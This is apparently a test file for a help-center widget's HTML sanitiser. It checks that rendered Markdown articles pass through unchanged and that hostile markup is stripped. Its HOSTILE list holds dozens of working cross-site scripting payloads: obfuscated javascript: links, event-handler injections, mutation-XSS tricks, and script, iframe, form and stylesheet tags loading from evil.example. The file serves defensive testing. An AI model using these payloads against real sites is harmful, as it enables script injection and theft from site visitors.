/**
 * Widget fragments through the strict schema: every article and FAQ of the sample site, rendered
 * by the site's own Markdown processor as the build renders them, passes unchanged; a hostile
 * corpus leaves nothing that runs, loads a frame, submits or changes the page.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { createMarkdownProcessor } from '@astrojs/markdown-remark';
import matter from 'gray-matter';
import type { Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { getLinkOptions, helpCenterMarkdown } from '../content/markdown-config.ts';
import { SiteSettingsSchema } from '../content/schema.ts';
import { parse } from 'yaml';
import { findDanger } from '../../test/helpers/html-danger.ts';
import { buildWidgetFragmentHtml } from './widget-fragment-html.ts';

const contentDir = path.resolve(import.meta.dirname, '../../content');
const settings = SiteSettingsSchema.parse(parse(readFileSync(path.join(contentDir, 'site.yaml'), 'utf8')));
const processor = await createMarkdownProcessor(helpCenterMarkdown(getLinkOptions(contentDir, '/', settings)));

async function render(markdown: string, file: string): Promise<string> {
  // @ts-expect-error Internal API, as Astro and help-files.ts pass it: the file's URL, for relative links.
  return (await processor.render(markdown, { fileURL: pathToFileURL(file) })).code;
}

/** The tree without source positions: two fragments with the same tree mean the same. */
function structure(html: string): Root {
  const tree = fromHtml(html, { fragment: true });
  visit(tree, (node) => {
    delete node.position;
  });
  return tree;
}

const sampleFiles = readdirSync(contentDir, { recursive: true, withFileTypes: true })
  .filter((e) => e.isFile() && e.name.endsWith('.md') && /(^|\/)(articles|faqs)(\/|$)/.test(e.parentPath))
  .map((e) => path.join(e.parentPath, e.name));

describe('widget fragments of the sample site', () => {
  it('pass the strict schema unchanged, with every feature the site renders', async () => {
    expect(sampleFiles.length).toBeGreaterThan(60);
    const seen = new Set<string>();
    for (const file of sampleFiles) {
      const html = await render(matter(readFileSync(file, 'utf8')).content, file);
      const out = buildWidgetFragmentHtml(html, path.relative(contentDir, file));
      expect(out.warning, file).toBeUndefined();
      expect(structure(out.html), file).toEqual(structure(html));
      expect(out.html, file).toBe(html);
      for (const [name, pattern] of Object.entries(FEATURES)) if (pattern.test(out.html)) seen.add(name);
    }
    expect([...seen].sort()).toEqual(Object.keys(FEATURES).sort());
  });

  it('keep what writers put in Markdown beyond the sample: details, kbd, aligned tables, titled images', async () => {
    const markdown = [
      '## Shortcuts {#keys}',
      '',
      'Press <kbd>Ctrl</kbd> + <kbd>K</kbd>. See [the guide](https://example.com/guide "Guide") or [mail us](mailto:a@b.test).',
      '',
      '<details>',
      '<summary>Why?</summary>',
      '',
      'Because *Markdown* works inside.',
      '',
      '</details>',
      '',
      '| Left | Centre | Right |',
      '| :--- | :----: | ----: |',
      '| a | b | c |',
      '',
      '![A chart](https://example.com/chart.png "The chart")',
      '',
      '1. One',
      '   - nested `code`',
      '',
      ':::warning',
      'Careful.',
      ':::',
      '',
      '```ts',
      'const x: string = "<b>";',
      '```',
    ].join('\n');
    const html = await render(markdown, path.join(contentDir, 'articles/x.md'));
    const out = buildWidgetFragmentHtml(html, 'articles/x.md');
    expect(out.warning).toBeUndefined();
    expect(structure(out.html)).toEqual(structure(html));
    expect(out.html).toContain('<details>');
    expect(out.html).toContain('<th align="center">');
    expect(out.html).toContain('<h2 id="keys">');
  });
});

/** What the sample site's fragments show, each seen at least once. */
const FEATURES: Record<string, RegExp> = {
  'heading with id': /<h2 id="[^"]+">/,
  'table region': /<div class="table-scroll" role="region" tabindex="0" aria-label="[^"]+"><table>/,
  'code block':
    /<pre class="astro-code[^"]*" style="[^"]*color:var\(--astro-code-[\w-]+\)[^"]*" tabindex="0" data-language="\w+"><code>/,
  'coloured code': /<span style="color:var\(--astro-code-token-[\w-]+\)">/,
  image: /<img src="[^"]+" alt="[^"]+">/,
  callout: /<aside class="callout callout-(note|tip|warning)"><p class="callout-title">/,
  lists: /<ol>[\s\S]*<ul>/,
  link: /<a href="\/[^"]*">/,
};

/** Everything that could run, frame, submit, navigate the page or load something in it. */
const HOSTILE = [
  '<a href="&#106;avascript:alert(1)">entity</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href="  java\tscript:alert(1)">tab</a>',
  '<a href="java\nscript:alert(1)">newline</a>',
  '<a href=javascript:alert(1)>unquoted</a>',
  "<a href='JaVaScRiPt:alert(1)'>case</a>",
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href="\u0001javascript:alert(1)">control</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="svg data">',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="x">',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p style="background:url(javascript:alert(1))">url</p>',
  '<span style="background-image: u\\72l(x)">escaped url</span>',
  '<span style="width: expression(alert(1))">expression</span>',
  '<pre style="color:red;background:URL(https://evil.example/x.png)">x</pre>',
  '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">b</button>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<details open ontoggle="alert(1)"><summary>s</summary></details>',
  '<div onmouseover="alert(1)" role="button" tabindex="5">d</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="https://ok.example/" target="_blank" ping="https://evil.example/">ok</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<title><img src=x onerror=alert(1)></title>',
  '<p title="&lt;img src=x onerror=alert(1)&gt;">entity in attribute</p>',
];

describe('widget fragments with hostile HTML', () => {
  it('are found dangerous by the check before sanitising (the check bites)', () => {
    const caught = HOSTILE.filter((h) => findDanger(h).length > 0);
    // Not caught raw: the comment, the escaped attribute and the noscript trick's first parse are inert.
    expect(HOSTILE.length - caught.length).toBeLessThanOrEqual(4);
  });

  it.each(HOSTILE)('leave nothing dangerous of %s', (hostile) => {
    const out = buildWidgetFragmentHtml(`<p>Before</p>${hostile}<p>After</p>`, 'articles/x.md');
    expect(findDanger(out.html)).toEqual([]);
    // Parsed again, the clean HTML is the same tree (no mutation on a second parse).
    expect(buildWidgetFragmentHtml(out.html, 'articles/x.md').html).toBe(out.html);
  });

  it('counts what it removed by kind, and says so in the build warning', () => {
    const out = buildWidgetFragmentHtml(
      '<p onclick="a()">x</p><script>b()</script><a href="&#106;avascript:c()">l</a><iframe srcdoc="x"></iframe><form><input></form><p style="background:url(x)">s</p>',
      'articles/billing/refunds.md',
    );
    expect(out.html).toBe('<p>x</p><a>l</a><p>s</p>');
    expect(out.warning).toBe(
      "articles/billing/refunds.md: the widget shows this page without its 1 script, 1 event handler, 1 javascript: link, 1 iframe, 1 style attribute with url() or expression(), 2 forms or form controls (the help center's page keeps them); the widget allows no scripts, frames, forms, event handlers or unsafe URLs.",
    );
  });

  it('turns an allowed video iframe into a link to the video, its title as text', () => {
    const out = buildWidgetFragmentHtml(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Set up &lt;b&gt;fast&lt;/b&gt;" onload="x()"></iframe>',
      'a.md',
    );
    expect(out.html).toBe('<a href="https://www.youtube-nocookie.com/embed/abc">Set up &#x3C;b>fast&#x3C;/b></a>');
    expect(findDanger(out.html)).toEqual([]);
  });
});
